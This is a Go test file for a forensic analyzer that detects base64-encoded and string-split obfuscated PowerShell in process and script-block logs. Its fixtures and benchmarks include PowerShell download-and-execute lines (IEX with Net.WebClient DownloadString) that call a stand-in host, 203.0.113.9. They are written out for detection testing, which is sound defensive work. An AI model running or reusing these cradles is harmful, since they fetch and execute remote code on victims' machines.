package decode

import (
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"forensic/analyzers/analyzertest"
	"forensic/analyzers/finding"
	"forensic/analyzers/internal/golden"
	"forensic/analyzers/internal/unwrap"
)

func encode(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestLauncher(t *testing.T) {
	launcher := "$c=New-Object Net.WebClient;$u=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + encode("http://203.0.113.9:8080") + "'));IEX $c.DownloadString($u)"
	at := time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)
	p := analyzertest.Run(t, Analyzer,
		analyzertest.Row{"class": "process_start", "dataset": "d", "host_name": "h", "ts": at, "process_command_line": "powershell -NoP -enc " + encode(launcher)},
		analyzertest.Row{"class": "script_pipeline", "dataset": "d", "host_name": "h", "ts": at.Add(time.Hour), "script_host_application": "powershell.exe  -enc " + encode(launcher)},
		analyzertest.Row{"class": "process_start", "dataset": "d", "host_name": "h", "ts": at, "process_command_line": `C:\Program Files\agent.exe --id 0123456789abcdef0123456789abcdef`},
	)
	if len(p.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(p.Findings), p.Findings)
	}
	f := p.Findings[0]
	if f.Severity != finding.High || f.EvidenceTotal != 2 || len(f.Evidence) != 2 || !strings.Contains(f.Why, "http://203.0.113.9:8080") {
		t.Errorf("%+v", f)
	}
	if f.First != at.UnixMicro() || f.Last != at.Add(time.Hour).UnixMicro() || f.Host != "h" {
		t.Errorf("%+v", f)
	}
	table := p.Exhibits[1].Table
	if n := len(table.Rows); n != 2 || table.Rows[1][2] != "http://203.0.113.9:8080" || table.Rows[1][0] != "2" {
		t.Errorf("table: %q", table.Rows)
	}
	if n := len(p.Exhibits[0].Forest.Nodes); n != 3 {
		t.Errorf("%d nodes", n)
	}
}

func TestHarmlessEncodedCommandIsLow(t *testing.T) {
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": "powershell -EncodedCommand " + encode("Get-Service | Where-Object Status -eq Running")})
	if len(p.Findings) != 1 || p.Findings[0].Severity != finding.Low {
		t.Errorf("%+v", p.Findings)
	}
}

func TestNothingEncoded(t *testing.T) {
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "process_start", "process_command_line": `C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule SHA256=A75C85F3B089993E9C042FB82ECB7757E8F460ED8065FC7991CAA38A6DE0F50C`})
	if len(p.Findings) != 0 || len(p.Exhibits) != 0 {
		t.Errorf("%+v %+v", p.Findings, p.Exhibits)
	}
}

func TestObfuscated(t *testing.T) {
	at := time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)
	p := analyzertest.Run(t, Analyzer,
		// One script in two parts: only together they say what is fetched from where.
		analyzertest.Row{"class": "script_block", "host_name": "h", "ts": at, "script_id": "s", "script_part": 1, "script_parts": 2, "script_text": "$w=New-Object ('Net.Web'+'Client');&('I'+'E'+'X')($w.('Down'+'load"},
		analyzertest.Row{"class": "script_block", "host_name": "h", "ts": at, "script_id": "s", "script_part": 2, "script_parts": 2, "script_text": "String').Invoke('ht'+'tp://203'+'.0.113.9/a'))"},
		// Pieces that hide nothing.
		analyzertest.Row{"class": "script_block", "host_name": "h", "ts": at, "script_text": "$a='on'+'e'+'two'+'thr'+'ee'"},
		// How people write.
		analyzertest.Row{"class": "script_block", "host_name": "h", "ts": at, "script_text": "$p = 'C:\\a' + '\\b' + [char]13 + [char]10; '{0} of {1}' -f 1, 2; 'a,b' -split ',' -join ';'"},
	)
	if len(p.Findings) != 2 {
		t.Fatalf("%d findings: %+v", len(p.Findings), p.Findings)
	}
	f := p.Findings[0]
	if f.Severity != finding.High || !strings.HasPrefix(f.Title, "Obfuscated PowerShell that hides") || !strings.Contains(f.Why, "http://203.0.113.9/a") {
		t.Errorf("%+v", f)
	}
	if len(f.Evidence) != 2 || f.Evidence[0].Record != 1 || f.Evidence[1].Record != 2 || f.EvidenceTotal != 2 {
		t.Errorf("evidence %+v of %d", f.Evidence, f.EvidenceTotal)
	}
	if p.Findings[1].Severity != finding.Low {
		t.Errorf("%+v", p.Findings[1])
	}
}

// TestOrdinary reads what is long and in the alphabet and holds nothing.
func TestOrdinary(t *testing.T) {
	p := analyzertest.Run(t, Analyzer,
		analyzertest.Row{"class": "process_start", "process_command_line": "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
		analyzertest.Row{"class": "process_start", "process_command_line": `"C:\Program Files\Git\bin\sh.exe" -e AbstractSingletonProxyFactoryBean`},
		analyzertest.Row{"class": "process_start", "process_command_line": `powershell -File C:\scripts\deploy.ps1 -Token dGhpcyBpcyBub3QgYSBzZWNyZXQgb2YgYW55IGtpbmQ=`},
		analyzertest.Row{"class": "process_start", "process_command_line": `findstr /r "a^b c^d e^f" x.txt`},
		analyzertest.Row{"class": "registry", "registry_data": "-----BEGIN CERTIFICATE-----\nMIIB5wYJKoZIhvcNAQcDoIIB2DCCAdQCAQAxggF/MIIBewIBADBj\n-----END CERTIFICATE-----"},
	)
	for _, f := range p.Findings {
		t.Errorf("%s: %s", f.Title, f.Why)
	}
}

func TestSecureString(t *testing.T) {
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"class": "script_block", "script_text": "$s='76492d1116743f0423413b16050a5345MgB8AGEA' | ConvertTo-SecureString -Key (1..16)"})
	if !p.Partial || len(p.Warnings) != 1 || !strings.Contains(p.Warnings[0], "SecureString") {
		t.Errorf("partial %v, %q", p.Partial, p.Warnings)
	}
}

// BenchmarkDecode reads commands of which one in a hundred is encoded.
func BenchmarkDecode(b *testing.B) {
	var rows []string
	size := 0
	for i := range 20_000 {
		text := fmt.Sprintf(`"C:\Windows\System32\svchost.exe" -k netsvcs -p -s Schedule --type=utility --lang=en-US --id %d`, i)
		if i%100 == 0 {
			text = "powershell -NoP -enc " + encode(fmt.Sprint("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/", i, "')"))
		}
		rows = append(rows, text)
		size += len(text)
	}
	b.SetBytes(int64(size))
	for b.Loop() {
		m := newMemo(unwrap.Defaults)
		for _, text := range rows {
			m.decode(text)
		}
	}
}

// BenchmarkSharedMordor reads every command line and script of ten archives as
// the analyzer does, each distinct text once. MSTICPy does 2.9 MB/s.
func BenchmarkSharedMordor(b *testing.B) {
	dir := golden.Folder(b)
	f, err := os.Open(filepath.Join(dir, "golden", "inputs", "mordor_10archives.jsonl.gz"))
	if err != nil {
		b.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		b.Fatal(err)
	}
	var rows []string
	size := 0
	for dec := json.NewDecoder(z); ; {
		var in struct{ Text string }
		if err := dec.Decode(&in); err != nil {
			break
		}
		rows = append(rows, in.Text)
		size += len(in.Text)
	}
	b.SetBytes(int64(size))
	for b.Loop() {
		m := newMemo(unwrap.Defaults)
		seen := map[string]bool{}
		for _, text := range rows {
			if !seen[text] {
				seen[text] = true
				m.decode(text)
			}
		}
	}
}
